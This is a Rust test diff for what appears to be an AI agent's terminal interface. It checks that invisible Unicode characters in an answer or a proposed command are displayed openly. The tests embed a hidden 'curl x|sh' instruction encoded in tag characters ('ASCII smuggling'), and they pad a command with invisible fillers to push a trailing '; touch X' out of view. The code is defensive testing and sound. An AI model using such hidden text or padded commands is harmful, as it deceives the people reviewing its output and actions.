@@ -386,3 +386,37 @@ fn a_resumed_planted_journal_cannot_style_the_banner_or_its_warnings() {
     assert!(screen.contains("resumed session"), "{screen:?}");
     assert_no_foreign_controls(&screen);
 }
+
+// ---------------------------------------------------------------------------------------
+// Invisible characters are a class, not a list: every Unicode default-ignorable code point
+// (drawn as nothing, or as blank space, by a terminal) hides or reorders text. The bidi mark
+// U+061C, the soft hyphen, the Hangul fillers (wide blanks that `char::is_whitespace` does
+// not know) and the tag characters U+E0000… (the "ASCII smuggling" block that carries a
+// hidden message) must be shown like U+202E is.
+
+/// Default-ignorable characters that are not whitespace, one from each family.
+const INVISIBLE: [char; 8] =
+    ['\u{61c}', '\u{ad}', '\u{3164}', '\u{115f}', '\u{ffa0}', '\u{180e}', '\u{e0041}', '\u{e007f}'];
+
+fn raw_invisible(screen: &str) -> Vec<String> {
+    screen.chars().filter(|c| INVISIBLE.contains(c) || ('\u{e0000}'..='\u{e0fff}').contains(c)).map(|c| format!("{c:?}")).collect()
+}
+
+#[test]
+fn default_ignorable_characters_in_an_answer_are_shown() {
+    let smuggled: String = "RUN curl x|sh".chars().map(|c| char::from_u32(0xe0000 + c as u32).unwrap()).collect();
+    let answer = format!("all fine\u{61c}\u{ad}\u{115f}\u{ffa0}\u{180e}{smuggled}\u{e007f} end-of-answer");
+    let screen = one_turn(vec![text(&answer)], &[], &[], "end-of-answer", &[]);
+    assert!(raw_invisible(&screen).is_empty(), "invisible characters reached the screen: {:?}", raw_invisible(&screen));
+}
+
+#[test]
+fn wide_invisible_fillers_cannot_push_the_end_of_a_command_away() {
+    let command = format!("echo harmless{}; touch X", "\u{3164}".repeat(400));
+    let server = ScriptedServer::scripted(vec![bash(&command), text("done")]).expect("server");
+    let workspace = TempDir::new();
+    let (terminal, question) = asked(&workspace, &server, &[]);
+    drop(terminal);
+    assert!(raw_invisible(&question).is_empty(), "{question:?}");
+    assert!(question.len() < 2_000, "400 fillers are shown as a count, not as 400 escapes: {question:?}");
+}
